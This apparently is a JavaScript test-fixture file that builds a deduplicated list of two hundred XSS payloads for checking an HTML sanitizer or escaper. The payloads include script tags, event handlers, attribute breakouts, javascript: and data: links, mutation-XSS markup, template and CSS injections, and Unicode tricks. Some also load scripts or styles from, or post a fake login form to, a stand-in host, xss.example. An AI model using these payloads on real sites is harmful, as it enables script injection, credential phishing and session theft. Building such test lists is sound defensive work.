// Two hundred texts that would like to be something else: markup, script, a link, a style, the end of whatever they stand
// in. All but the plain oddities set `__xss` or open a dialog when anything of them runs.

/** The same text as far as a page shows it: without blanks and invisible signs, which pages fold or drop. */
export const shown = (text) => text.normalize('NFC').replaceAll(/[\s\p{C}]/gu, '');

const scripts = [
  '<script>__xss=1</script>',
  '<SCRIPT>__xss=1</SCRIPT>',
  '<script >__xss=1</script >',
  '<script/x>__xss=1</script>',
  '<script\n>__xss=1</script>',
  '<script>alert(1)</script',
  '<script>alert(1)//',
  '<script>alert(1)<!--',
  '<<script>__xss=1//<</script>',
  '<scr<script>ipt>__xss=1</scr</script>ipt>',
  '</script><script>__xss=1</script>',
  '<!--><script>__xss=1</script>',
  '--><script>__xss=1</script>',
  '<!--<img src="--><script>__xss=1</script>">',
  ']]><script>__xss=1</script>',
  '<script src=data:text/javascript,__xss=1></script>',
  '<script src="//xss.example/x.js"></script>',
  '<script type=module>__xss=1</script>',
  '<script type=importmap>{"imports":{"x":"data:text/javascript,__xss=1"}}</script>',
  '<script nonce="">__xss=1</script>',
  '<noscript><p title="</noscript><script>__xss=1</script>">',
  '<svg><script>__xss=1</script></svg>',
  '<svg><script href=data:,__xss=1 />',
  '<math><script>__xss=1</script></math>',
  '<template><script>__xss=1</script></template>',
  '<template shadowrootmode=open><script>__xss=1</script></template>',
  '%3Cscript%3E__xss=1%3C/script%3E',
  '&lt;script&gt;__xss=1&lt;/script&gt;',
  '&#60;script&#62;__xss=1&#60;/script&#62;',
  '\\u003cscript\\u003e__xss=1\\u003c/script\\u003e',
];

const handlers = [
  ...['<img src=x onerror=__xss=1>', '<img src=x:x onerror=__xss=2>', '<img/src/onerror=__xss=1>', '<IMG SRC=x ONERROR="__xss=1">'],
  ...['<image src=x onerror=__xss=1>', '<img srcset=x onerror=__xss=1>', '<img src=x onerror=\u0061lert(1)>', '<img src=`x`onerror=__xss=1>'],
  ...['<svg onload=__xss=1>', '<svg/onload=__xss=1//', '<svg\tonload=__xss=1>', '<svg><animate onbegin=__xss=1 attributeName=x dur=1s>'],
  ...['<svg><set onbegin=__xss=1 attributename=x>', '<svg><image href=x onerror=__xss=1>', '<svg><a xlink:href=javascript:__xss=1><text y=9>x</text></a></svg>'],
  ...['<svg><use href="data:image/svg+xml,<svg id=x onload=__xss=1>#x">', '<svg><foreignObject><iframe onload=__xss=1></iframe></foreignObject></svg>'],
  ...['<body onload=__xss=1>', '<body onpageshow=__xss=1>', '<body/onhashchange=__xss=1>', '<html onmouseover=__xss=1>', '<frameset onload=__xss=1>'],
  ...['<iframe onload=__xss=1></iframe>', '<iframe src=javascript:__xss=1></iframe>', '<iframe srcdoc="<script>parent.__xss=1</script>">'],
  ...['<iframe src="data:text/html,<script>parent.__xss=1</script>">', '<object data=javascript:__xss=1>', '<object data="data:text/html,<script>alert(1)</script>">'],
  ...['<embed src=javascript:__xss=1>', '<embed src="data:image/svg+xml,<svg onload=alert(1)>">', '<video src=x onerror=__xss=1>', '<video><source onerror=__xss=1>'],
  ...['<audio src=x onerror=__xss=1>', '<track onerror=__xss=1>', '<input autofocus onfocus=__xss=1>', '<select autofocus onfocus=__xss=1>'],
  ...['<textarea autofocus onfocus=__xss=1>', '<button autofocus onfocus=__xss=1>', '<keygen autofocus onfocus=__xss=1>', '<a href=# id=x tabindex=1 onfocus=__xss=1 autofocus>x</a>'],
  ...['<details open ontoggle=__xss=1>', '<dialog open onclose=__xss=1>', '<marquee onstart=__xss=1>', '<marquee loop=1 width=0 onfinish=__xss=1>'],
  ...['<input type=image src=x onerror=__xss=1>', '<link rel=stylesheet href=x onerror=__xss=1>', '<style onload=__xss=1>', '<style onload=__xss=1></style>'],
  ...['<p style=animation-name:x onanimationstart=__xss=1>', '<x onclick=__xss=1 tabindex=0>x', '<div onpointerover=__xss=1>', '<b onbeforeinput=__xss=1 contenteditable>'],
  ...['<div popover id=x onbeforetoggle=__xss=1>', '<isindex type=image src=1 onerror=__xss=1>', '<meter onmouseover=__xss=1>0</meter>', '<bgsound onpropertychange=__xss=1>'],
];

const attributes = [
  '" onmouseover="__xss=1',
  "' onmouseover='__xss=1",
  '" autofocus onfocus="__xss=1" x="',
  "' autofocus onfocus='__xss=1' x='",
  '` onmouseover=`__xss=1',
  '"><img src=x onerror=__xss=1>',
  "'><img src=x onerror=__xss=1>",
  '"/><svg onload=__xss=1>',
  "'/><svg onload=__xss=1>",
  '"></a><script>__xss=1</script>',
  '&quot;&gt;&lt;img src=x onerror=__xss=1&gt;',
  '&#34;&#62;<img src=x onerror=__xss=1>',
  '" style="position:fixed;inset:0;background:red" x="',
  '" formaction="javascript:__xss=1" x="',
  '"\nonfocus=__xss=1\nautofocus\nx="',
  'x" data-hk="0-0-0" onerror="__xss=1',
  '\\" onmouseover=\\"__xss=1',
  '" srcdoc="<script>parent.__xss=1</script>',
];

const links = [
  'javascript:__xss=1',
  'JaVaScRiPt:__xss=1',
  'javascript://exemplo.example/%0a__xss=1',
  'java\tscript:__xss=1',
  'java\nscript:__xss=1',
  '\u0001javascript:__xss=1',
  'javascript&colon;__xss=1',
  '&#106;avascript:__xss=1',
  'javascript:/*--></title></style></textarea></script><svg/onload=__xss=1>',
  'data:text/html,<script>__xss=1</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'vbscript:msgbox(1)',
  'blob:http://exemplo.example/x',
  '//xss.example/%2f..',
  '/\\xss.example/',
  'https://exemplo.example/"onmouseover="__xss=1',
  'https://exemplo.example/<script>__xss=1</script>',
  'https://javascript:__xss=1@exemplo.example/',
  '<a href="javascript:__xss=1">clique</a>',
  '[clique](javascript:__xss=1)',
  '![x](x"onerror="__xss=1)',
  '<form action=javascript:__xss=1><input type=submit>',
  '<button form=x formaction=javascript:__xss=1>x</button>',
  '<base href="//xss.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:__xss=1">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
];

const endings = [
  '</textarea><script>__xss=1</script>',
  '</title><script>__xss=1</script>',
  '</style><script>__xss=1</script>',
  '</option></select><img src=x onerror=__xss=1>',
  '</noscript><img src=x onerror=__xss=1>',
  '</template><img src=x onerror=__xss=1>',
  '</iframe><img src=x onerror=__xss=1>',
  '</xmp><img src=x onerror=__xss=1>',
  '</bdi></li></ul></main><h1>Entre outra vez</h1><form action=//xss.example>',
  '</body></html><script>__xss=1</script>',
  '</svg><img src=x onerror=__xss=1>',
  '-->', '<!--', '<!-->', '<!--#exec cmd="id"-->', '<![CDATA[<img src=x onerror=__xss=1>]]>', '<?xml version="1.0"?>', '<?php echo 1 ?>', '<% alert(1) %>',
  '<plaintext>', '<xmp>', '<listing>', '<textarea>', '<title>', '<style>', '<noembed>', '<noframes>', '<select><option>',
];

// Markup that means one thing when it is first read and another when it is written out and read again.
const mutations = [
  '<svg></p><style><a id="</style><img src=1 onerror=__xss=1>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__xss=1&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss=1>',
  '<noscript><style></noscript><img src=x onerror=__xss=1>',
  '<svg><p><style><g title="</style><img src=x onerror=__xss=1>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=__xss=1></style></annotation-xml>',
  '<listing>&lt;img src=1 onerror=__xss=1&gt;</listing>',
  '<p><svg><desc><td><img src=x onerror=__xss=1></td></desc></svg></p>',
  '<table><a><tr><td></a><img src=x onerror=__xss=1></table>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=__xss=1>">',
  '\u2028<img src=x onerror=__xss=1>\u2029',
];

const templates = ['{{constructor.constructor("__xss=1")()}}', '${__xss=1}', '#{__xss=1}', '{%raw%}<script>__xss=1</script>', '<%= __xss=1 %>', '*{__xss=1}', '${{7*7}}', '{"__proto__":{"__xss":1}}', "';__xss=1;//", '";__xss=1;//', "\\';__xss=1;//", '</script>";__xss=1//', '`;__xss=1;`', '\u0022};__xss=1;//'];

const styles = [
  '<style>*{background:url(//xss.example/)}</style>',
  '<style>@import"//xss.example/x.css";</style>',
  '<div style="background:url(javascript:__xss=1)">',
  '<div style="width:expression(__xss=1)">',
  '<link rel=stylesheet href="data:text/css,*{color:red}">',
  '}*{display:none}',
  '*/body{display:none}/*',
  '<div class="menu" style="position:fixed;inset:0">Entre outra vez</div>',
  '<style nonce>main{display:none}</style>',
  '<style>:root{--x:</style><img src=x onerror=__xss=1>',
];

const oddities = [
  '\u202e<img src=x onerror=__xss=1>\u202c',
  '\u2066</bdi><script>__xss=1</script>\u2069',
  'سلام <img src=x onerror=__xss=1>',
  '‏שלום"><svg onload=__xss=1>',
  '\u200b<script>\u200b__xss=1</script>\u200b',
  '＜script＞__xss=1＜/script＞',
  '﹤img src=x onerror=__xss=1﹥',
  '\ufeff<script>__xss=1</script>',
  'ſcript <ſcript>__xss=1</ſcript>',
  'K<ing onerror=__xss=1>',
  '🙂<img src=x onerror=__xss=1>👩‍👩‍👧',
  'Z͑ͫ̓ͪ̂ͫ<b>a</b>',
  '<ÿ onclick=__xss=1>x</ÿ>',
  '<img\u00a0src=x\u00a0onerror=__xss=1>',
  '<a\u3000href=javascript:__xss=1>x',
  '\u0007<script>__xss=1</script>',
  '\u001b[31m<img src=x onerror=__xss=1>',
  '<img src=x onerror="\u2028__xss=1">',
];

const all = [...scripts, ...handlers, ...attributes, ...links, ...endings, ...mutations, ...templates, ...styles, ...oddities];

/** Exactly two hundred, each of its own kind. */
export const HOSTILE = all.filter((text, index) => all.findIndex((other) => shown(other) === shown(text)) === index).slice(0, 200);
